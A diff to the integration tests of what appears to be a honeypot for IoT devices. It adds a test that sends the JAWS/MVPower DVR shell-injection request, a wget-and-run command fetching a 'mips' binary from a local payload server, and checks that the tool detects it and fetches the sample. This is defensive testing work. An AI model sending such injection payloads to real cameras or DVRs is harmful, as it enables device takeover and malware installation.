@@ -13,6 +13,9 @@ import { join } from 'node:path';
 import { DatabaseSync } from 'node:sqlite';
 import { promisify } from 'node:util';
 import { startHachi, type RunningHachi } from './hachi-process.ts';
+import { startPayloadServer, type PayloadServer } from '../../src/testing/payload-server.ts';
+import { storedEvents } from './stored-events.ts';
+import { createHash } from 'node:crypto';
 import { freePort, waitForPort } from './loopback-ports.ts';
 import { CAMERA } from './personas.ts';
 
@@ -22,6 +25,8 @@ let keepAlive: Server;
 let busyboxPort = 0;
 let keepAlivePort = 0;
 let hachi: RunningHachi;
+let payloads: PayloadServer;
+const DROPPED = '\x7fELF real-device exploit payload';
 
 // The CGI page: echoes the method, the query and the posted body, as a device's diagnostic page would.
 const PING_CGI = '#!/bin/sh\nprintf "Content-Type: text/plain\\r\\n\\r\\n"\necho "method=$REQUEST_METHOD query=$QUERY_STRING"\nif [ "$REQUEST_METHOD" = POST ]; then head -c "$CONTENT_LENGTH"; echo; fi\n';
@@ -41,10 +46,12 @@ before(async () => {
   });
   keepAlivePort = await new Promise<number>((resolve) => keepAlive.listen(0, '127.0.0.1', () => resolve((keepAlive.address() as { port: number }).port)));
   await waitForPort(busyboxPort);
+  payloads = await startPayloadServer({ '/bins/mips': DROPPED });
   hachi = await startHachi([{ name: 'camera', persona: CAMERA.id, loginFailureDelayMs: 0 }], {
     services: [{ name: 'camera', protocol: 'telnet', host: '127.0.0.1', port: 0, persona: CAMERA.id }],
+    fetch: { allow: ['127.0.0.1/32'] },
     devices: [
-      { name: 'cam-web', product: 'XM IPC (lab unit)', firmware: 'V4.02.R11', address: '127.0.0.1', services: [{ protocol: 'http', host: '127.0.0.1', port: 0, devicePort: busyboxPort, http: { maxBodyBytes: 1024 } }] },
+      { name: 'cam-web', product: 'XM IPC (lab unit)', firmware: 'V4.02.R11', address: '127.0.0.1', persona: CAMERA.id, services: [{ protocol: 'http', host: '127.0.0.1', port: 0, devicePort: busyboxPort, http: { maxBodyBytes: 1024 } }] },
       { name: 'cam-ka', product: 'GoAhead camera', firmware: '2.5', address: '127.0.0.1', services: [{ protocol: 'http', host: '127.0.0.1', port: 0, devicePort: keepAlivePort }] },
     ],
   });
@@ -55,6 +62,7 @@ after(async () => {
   httpd.kill();
   keepAlive.closeAllConnections();
   keepAlive.close();
+  await payloads.close();
 });
 
 const relayPort = (device: string, port: number): number => {
@@ -77,7 +85,7 @@ async function httpEvents(device: string, count: number, request: string): Promi
   try {
     const deadline = Date.now() + 10_000;
     for (;;) {
-      const found = (db.prepare(`SELECT type, mode, protocol, session, data FROM events WHERE persona = ? AND type LIKE 'http.%' AND session IN (SELECT session FROM events WHERE type = 'http.request' AND ${request}) ORDER BY id`).all(device) as Record<string, unknown>[]).map(
+      const found = (db.prepare(`SELECT type, mode, protocol, session, data FROM events WHERE persona = ? AND type IN ('http.request', 'http.response') AND session IN (SELECT session FROM events WHERE type = 'http.request' AND ${request}) ORDER BY id`).all(device) as Record<string, unknown>[]).map(
         (r): Row => ({ type: String(r.type), mode: String(r.mode), protocol: String(r.protocol), session: String(r.session), data: JSON.parse(String(r.data)) as Record<string, unknown> }),
       );
       if (found.length >= count || Date.now() > deadline) return found;
@@ -153,4 +161,17 @@ test('a smuggling request (Content-Length with Transfer-Encoding) is recorded as
   assert.deepEqual([request.data.method, request.data.path, request.data.seq], ['POST', '/cgi-bin/ping.cgi', 1]);
   assert.deepEqual([response?.data.seq, response?.data.status], [1, 200]);
   assert.equal(hachi.child.exitCode, null);
+});
+
+test('an exploit sent to the real device is detected (mode real), and its payload is followed to the sample', async () => {
+  const port = relayPort('cam-web', busyboxPort);
+  const url = `http://127.0.0.1:${payloads.port}/bins/mips`;
+  // The JAWS/MVPower DVR shell injection: the device's BusyBox httpd answers 404; hachi still fetches the sample.
+  await run('curl', ['-s', '-g', '-o', '/dev/null', '--max-time', '5', `http://127.0.0.1:${port}/shell?cd+/tmp;wget+${url};sh+/tmp/mips`]);
+  const [detected] = await storedEvents(hachi, 'exploit.detected', (e) => e.persona === 'cam-web', 1);
+  assert.deepEqual([detected?.mode, detected?.data['signature'], detected?.data['payload']], ['real', 'jaws-mvpower-dvr-shell', `cd /tmp;wget ${url};sh /tmp/mips`]);
+  // Affected is judged by the device's model (its fallback persona's class: an IP camera).
+  assert.equal(detected?.data['affected'], (detected?.data['classes'] as string[]).includes('ip-camera'));
+  const [fetched] = await storedEvents(hachi, 'download.fetch', (e) => e.session === detected!.session && e.data['url'] === url, 1);
+  assert.deepEqual([fetched?.data['outcome'], fetched?.data['sha256']], ['ok', createHash('sha256').update(DROPPED).digest('hex')]);
 });
